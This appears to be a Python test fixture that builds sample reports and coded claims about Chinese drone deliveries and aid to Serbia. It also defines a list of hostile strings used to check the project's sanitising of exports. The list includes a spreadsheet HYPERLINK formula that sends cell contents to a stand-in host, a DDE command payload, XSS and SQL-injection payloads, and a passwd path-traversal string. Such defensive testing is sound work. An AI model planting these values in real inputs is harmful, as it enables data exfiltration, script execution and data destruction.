"""A small record of states that are real enough to have codes, matched as any other; and one full of hostile text."""

from functools import lru_cache

from dragoman.coding.claim import Claim, Money, Quantity
from dragoman.ids import content_id
from dragoman.matching import match
from dragoman.publishing.exports import About, Contents
from dragoman.publishing.exports.safe import safe
from dragoman.record import Judgement
from dragoman.sources.report import Report

FIRST = (
    "Serbia ordered nine CH-92A drones from China in 2019. China delivered six CH-92A drones to Serbia on 4 July 2020. "
    "China gave Serbia 5.2 million euros for hospitals in 2020. The drones are kept in Kragujevac."
)
SECOND = (
    "China has delivered five CH-92A drones to Serbia in July 2020. Serbia and China will hold a drill in autumn 2021. "
    "The Serbian Ministry of Interior praised Huawei. A poll found that 40 percent of Serbs trust China."
)
HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"click")', "+1+1|cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+1",
    "＝1", " =1", "<script>alert(1)</script>", "]]><!--", "&amp;&lt;", "\u202egnirts desrever\u202c",
    "\u2066isolate\u2069",
    "nul\0byte", "bell\x07 esc\x1b[31m", "half \ud800 pair", "line\u2028separator\u2029paragraph\x85next",
    "\ufffe\uffff\U0001fffe", 'quote " back \\ slash', "semi; colon", "'; DROP TABLE claims; --", '"""',
    "\\u0000 ${x} {{ y }}",
    "%s %n {} {0}", "a\nb\r\nc", "../../etc/passwd", "https://exa mple.org/<b>|^`", "javascript:alert(1)",
    "9999-99-99", "𝔄rnor 🛰️", "x" * 300,
)  # fmt: skip


def report(text: str, name: str, **given: str | None) -> Report:
    fields: dict[str, str | None] = {
        "title": f"Report {name}", "publisher": f"Herald {name}", "published": "2020-07-06",
        "address": f"https://example.org/{name}", "media_type": "text/plain", "language": "en", "sha256": name * 64,
    } | given  # fmt: skip
    id = content_id("report", safe([text, fields["title"], fields["publisher"], fields["published"]]))
    return Report(id=id, text=text, **fields)  # type: ignore[arg-type]


def claim(of: Report, quote: str, **fields: object) -> Claim:
    start = of.text.index(quote)
    return Claim(of.id, start, start + len(quote), quote, **fields)  # type: ignore[arg-type]


def sentences(of: Report) -> list[str]:
    return [f"{part}." for part in of.text.removesuffix(".").split(". ")]


def made(reports: list[Report], claims: list[Claim], about: About, judgements: tuple[Judgement, ...] = ()) -> Contents:
    # Safe before matching, whose ids are hashes: half a surrogate pair has none.
    reports, claims = safe(reports), safe(claims)
    matching = match(claims, {r.id: r for r in reports})
    codings = {r.id: "both-1-abc" for r in reports}
    return safe(Contents(tuple(reports), tuple(claims), matching, judgements, codings, about))


@lru_cache(maxsize=1)
def contents() -> Contents:
    """Two reports whose claims agree, differ, follow each other, name a sum, a place and nobody's kind of thing."""
    a, b = report(FIRST, "a"), report(SECOND, "b", published="2021-03")
    ordered, six, money, kept = sentences(a)
    five, drill, praise, poll = sentences(b)
    drones = {"type": "arms_transfer", "actor": ("China",), "recipient": ("Serbia",), "item": "CH-92A drones"}
    start = a.text.index("nine")
    claims = [
        claim(a, ordered, quantity=(Quantity(9, "drones"),), time="2019", status="agreed", trigger=(7, 14),
              spans=(("quantity", (start, start + 4)),), confidence=0.75, **drones),
        claim(a, six, quantity=(Quantity(6, "drones"),), time="2020-07-04", **drones),
        claim(a, money, type="civil_aid", actor=("China",), recipient=("Serbia",), item="hospitals", time="2020",
              money=Money(5.2e6, "EUR", 6e6, "about")),
        claim(a, kept, place=("Kragujevac",), time="2020/..", status="operational", **drones),
        claim(b, five, quantity=(Quantity(5, "drones", "at_least"),), time="2020-07", coder="model", **drones),
        claim(b, drill, type="military_exercise", actor=("Serbia", "China"), time="2021-23", status="announced",
              modality="planned"),
        claim(b, praise, type="statement_support", actor=("Serbian Ministry of Interior",), recipient=("Huawei",)),
        claim(b, poll, type="public_opinion", actor=("Serbs",), recipient=("China",), item="trust",
              quantity=(Quantity(40, "percent"),), place=("Serbia",)),
    ]  # fmt: skip
    about = About("Drones and aid", ("Ana B.", "Bo C."), "CC-BY-4.0", "2026-01-02", "0.1.0")
    judged = (
        Judgement(3, "entity", "state:rs", "state:cn", "different", {"names": ["Serbia", "China"]}, "told", "ana",
                  "2026-01-01T10:00:00+00:00"),
    )  # fmt: skip
    return made([a, b], claims, about, judged)


@lru_cache(maxsize=1)
def hostile() -> Contents:
    """Every hostile text in every place that holds text: reports, quotes, parties, items, units, places, decisions."""
    reports, claims = [], []
    for number, evil in enumerate(HOSTILE):
        quote = f"{evil} sold tanks to {evil}."
        of = report(f"Once. {quote} End.", "0", title=evil, publisher=f"{evil} {number}", address=evil, published=evil)
        reports.append(of)
        claims.append(claim(
            of, quote, type="arms_transfer", actor=(evil, "China"), recipient=(f"{evil} army",), item=evil,
            quantity=(Quantity(number + 0.5, evil),), money=Money(1e9 + number, "EUR"), time="2020-01",
            place=(evil, "Belgrade"), attribution=evil, coder=evil, id=f"claim-{number:016}",
        ))  # fmt: skip
    judged = tuple(
        Judgement(n, "entity", evil, evil, "same", {"names": [evil, evil]}, evil, evil, "2026-01-01T10:00:00+00:00")
        for n, evil in enumerate(HOSTILE, 1)
    )
    about = About(HOSTILE[0], (HOSTILE[10],), HOSTILE[3], "2026-01-02", "0.1.0")
    return made(reports, claims, about, judged)
